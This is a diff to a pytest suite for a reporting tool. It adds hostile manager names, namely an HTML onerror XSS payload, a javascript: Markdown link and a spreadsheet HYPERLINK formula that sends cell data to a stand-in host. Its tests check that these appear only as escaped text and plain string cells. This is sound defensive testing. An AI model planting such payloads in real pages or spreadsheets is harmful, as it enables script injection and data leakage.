@@ -19,17 +19,20 @@ from helpers.runner import notebook_scope
 
 pytestmark = pytest.mark.slow
 HOSTILE = "<img src=x onerror=alert(1)>"
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click me")'
+MARKDOWN = "[x](javascript:alert(1)) **BOLD** $x^2$ _i_"
 
 
 @pytest.fixture(scope="module")
 def hostile_params(tmp_path_factory, demo_dir, demo_params) -> Path:
-    """The demo with one east-1 manager named like an XSS payload."""
+    """The demo with three east-1 managers named like attacks: HTML, a spreadsheet
+    formula, and Markdown with a mathtext formula."""
     root = tmp_path_factory.mktemp("hostile")
     data = root / "data"
     shutil.copytree(demo_dir, data)
     m = pd.read_csv(data / "managers.csv", dtype=str, keep_default_na=False)
-    m.loc[m["team_id"] == "east-1", "name"] = m.loc[m["team_id"] == "east-1", "name"].where(
-        m.loc[m["team_id"] == "east-1"].index != m.index[m["team_id"] == "east-1"][0], HOSTILE)
+    east = m.index[m["team_id"] == "east-1"]
+    m.loc[east[0], "name"], m.loc[east[1], "name"], m.loc[east[2], "name"] = HOSTILE, FORMULA, MARKDOWN
     m.to_csv(data / "managers.csv", index=False)
     params = yaml.safe_load(demo_params.read_text(encoding="utf-8"))
     params["data"]["folder"] = str(data)
@@ -43,10 +46,16 @@ def digest_tree(folder: Path) -> dict[str, str]:
             for p in sorted(folder.rglob("*")) if p.is_file()}
 
 
-def test_user_strings_are_escaped_in_html_and_browser(hostile_params, tmp_path, browser):
-    out = tmp_path / "out"
+@pytest.fixture(scope="module")
+def hostile_run(hostile_params, tmp_path_factory) -> Path:
+    out = tmp_path_factory.mktemp("hostile_out")
     proc = run_cli("run", str(hostile_params), "--team", "east-1", "--out", str(out), "--no-progress")
-    assert proc.returncode == 0, proc.stderr[-2000:]
+    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]  # "$x^2$" fails no chart
+    return out
+
+
+def test_user_strings_are_escaped_in_html_and_browser(hostile_params, hostile_run, browser):
+    out = hostile_run
     pages = sorted((out / "2026Q3" / "east-1").glob("*.html"))
     notebooks = yaml.safe_load(hostile_params.read_text(encoding="utf-8"))["notebooks"]
     per_team = [nb for nb in notebooks if notebook_scope(ROOT / "notebooks" / f"{nb}.ipynb") == "team"]
@@ -65,6 +74,42 @@ def test_user_strings_are_escaped_in_html_and_browser(hostile_params, tmp_path, 
     assert HOSTILE in page.locator("main").inner_text()  # shown as text
     assert page.locator('img[src="x"]').count() == 0 and dialogs == []
     page.close()
+
+
+def test_markdown_in_names_is_text(hostile_run, browser):
+    """A name with Markdown and a formula is shown as typed in every report: no link, no
+    bold, no italics, no formula, no stray backslash."""
+    pages = sorted((hostile_run / "2026Q3" / "east-1").glob("*.html"))
+    for page_path in pages:
+        html = page_path.read_text(encoding="utf-8")
+        assert 'href="javascript' not in html and "<strong>BOLD</strong>" not in html, page_path.name
+        assert "<em>i</em>" not in html and "\\*\\*BOLD" not in html, page_path.name
+    page = browser.new_page()
+    page.goto((hostile_run / "2026Q3" / "east-1" / "04_quarterly_review.html").as_uri())
+    page.wait_for_load_state("load")
+    text = page.locator("main").inner_text()
+    assert MARKDOWN in text and FORMULA in text  # as typed, in the page's visible text
+    assert page.locator('a[href^="javascript"]').count() == 0
+    page.close()
+
+
+def test_no_formula_reaches_the_spreadsheets(hostile_run):
+    """OWASP's rule for text cells starting with = + - @: a leading apostrophe; in xlsx a string, never a formula."""
+    import csv
+
+    import openpyxl
+
+    team = hostile_run / "2026Q3" / "east-1"
+    wb = openpyxl.load_workbook(team / "scorecard.xlsx")
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    names = [c for c in cells if c.value == "'" + FORMULA]
+    assert names and all(c.data_type == "s" for c in names)
+    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
+    for path in [*team.glob("*.csv"), *(hostile_run / "2026Q3" / "_company").glob("*.csv")]:
+        with open(path, encoding="utf-8", newline="") as fh:
+            bad = [cell for row in csv.reader(fh) for cell in row if cell.startswith(("=", "+", "@"))]
+        assert not bad, (path.name, bad[:3])
 
 
 def test_two_runs_give_byte_identical_csv(demo_params, tmp_path):
@@ -89,6 +134,9 @@ def dq_params(demo_params, tmp_path_factory) -> Path:
 
 @pytest.mark.parametrize("delay", [1.5, 4.0, 7.0])
 def test_kill_9_leaves_previous_reports_intact(dq_params, tmp_path, delay):
+    """kill -9 of the whole process group at three moments (loading, preparing, running):
+    the published reports stay as they were (or, if the run had finished, are complete),
+    and the next run cleans up whatever the killed one left."""
     out = tmp_path / "out"
     args = [str(KPI_BIN), "run", str(dq_params), "--team", "east-2", "--out", str(out), "--no-progress"]
     first = subprocess.run(args, capture_output=True, text=True, timeout=600)
@@ -100,15 +148,12 @@ def test_kill_9_leaves_previous_reports_intact(dq_params, tmp_path, delay):
         os.killpg(victim.pid, signal.SIGKILL)
     victim.wait(timeout=60)
     period = out / "2026Q3"
-    if period.exists():
-        after = digest_tree(period)
-        # either the old reports, untouched, or (if the run had finished) a complete new set
-        if victim.returncode != 0:
-            assert after == before
-        assert not [k for k in after if k.endswith(".tmp") or "/." in "/" + k]
-    else:  # killed between the two renames of the publish step: the old folder is aside
-        assert (out / ".previous-2026Q3").exists()
+    after = digest_tree(period)
+    if victim.returncode != 0:  # killed: the old reports, untouched
+        assert after == before
+    assert sorted(after) == sorted(before)  # finished or not, the same complete set of files
+    assert not [k for k in after if k.endswith(".tmp") or "/." in "/" + k]
     again = subprocess.run(args, capture_output=True, text=True, timeout=600)
     assert again.returncode == 0, again.stderr[-2000:]
     assert (period / "east-2" / "00_data_quality.html").exists()
-    assert not [p.name for p in out.iterdir() if p.name.startswith(".")]  # the rerun cleaned up
+    assert sorted(p.name for p in out.iterdir()) == [".kpi-workbook.lock", "2026Q3"]  # the rerun cleaned up
